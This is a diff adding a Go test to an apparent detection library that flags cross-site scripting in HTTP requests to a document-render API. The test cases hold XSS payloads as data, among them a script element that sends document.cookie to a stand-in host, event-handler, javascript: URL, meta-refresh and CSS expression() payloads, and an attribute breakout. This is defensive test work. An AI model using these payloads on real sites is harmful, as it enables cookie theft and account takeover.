@@ -268,3 +268,29 @@ func TestCommandInHTMLCode(t *testing.T) {
 		{"benign pre with attributes", put(`<p>Try this:</p><pre class="shell">tail -f app.log | grep ERROR</pre>`), ""},
 	})
 }
+
+// TestXSSInRichHTML: templates, e-mails and documents to render are whole
+// HTML documents, styles and all; only what runs script in them counts.
+func TestXSSInRichHTML(t *testing.T) {
+	doc := func(inner string) func(*vigil.Exchange) {
+		b, _ := json.Marshal(map[string]string{"html": `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Letter</title><style>@page{size:A4}body{font-family:Arial}</style><link rel="stylesheet" href="https://cdn.a.test/print.css"></head><body><h1>Engagement</h1><div style="font-size:8px">Page <span class="pageNumber"></span></div>` + inner + `<p>Signed: {{signer.name}}</p></body></html>`})
+		return body("application/json", string(b))
+	}
+	post := func(inner string) *vigil.Exchange {
+		return ex("POST", "https://a.test/v2/documents/render", doc(inner))
+	}
+	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
+		{"script element in a document", post(`<script>fetch('//x.test/'+document.cookie)</script>`), "cross-site scripting"},
+		{"event handler in a document", post(`<img src=x onerror=alert(1)>`), "cross-site scripting"},
+		{"slash-separated handler in a document", post(`<svg/onload=alert(1)>`), "cross-site scripting"},
+		{"frame in a document", post(`<iframe src="https://x.test/"></iframe>`), "cross-site scripting"},
+		{"script url in a document", post(`<a href="javascript:alert(1)">x</a>`), "cross-site scripting"},
+		{"meta refresh in a document", post(`<meta http-equiv="refresh" content="0;url=https://x.test/">`), "cross-site scripting"},
+		{"benign document with styles", post(`<table border="1"><tr><th>Party</th></tr><tr><td>{{signer1.name}}</td></tr></table>`), ""},
+		{"benign header fragment", ex("POST", "https://a.test/v2/documents/render", body("application/json", `{"options":{"header_html":"<div style=\"font-size:8px\">Page <span class=\"pageNumber\"></span> of <span class=\"totalPages\"></span></div><p>Confidential</p>"}}`)), ""},
+		{"short style payload still counts", ex("GET", "https://a.test/s?q=%3Cdiv+style%3D%22x%3Aexpression(alert(1))%22%3E"), "cross-site scripting"},
+		{"benign styled fragment", ex("POST", "https://a.test/v2/documents/render", body("application/json", `{"options":{"header_html":"<div style=\"font-size:8px\">Page <span class=\"pageNumber\"></span></div>"}}`)), ""},
+		{"styled fragment with a handler", ex("POST", "https://a.test/v2/documents/render", body("application/json", `{"header_html":"<div style=\"font-size:8px\" onmouseover=\"alert(1)\">Page</div>"}`)), "cross-site scripting"},
+		{"attribute breakout without a tag", ex("GET", "https://a.test/s?q=%22+autofocus+onfocus%3Dalert(1)+x%3D%22"), "cross-site scripting"},
+	})
+}
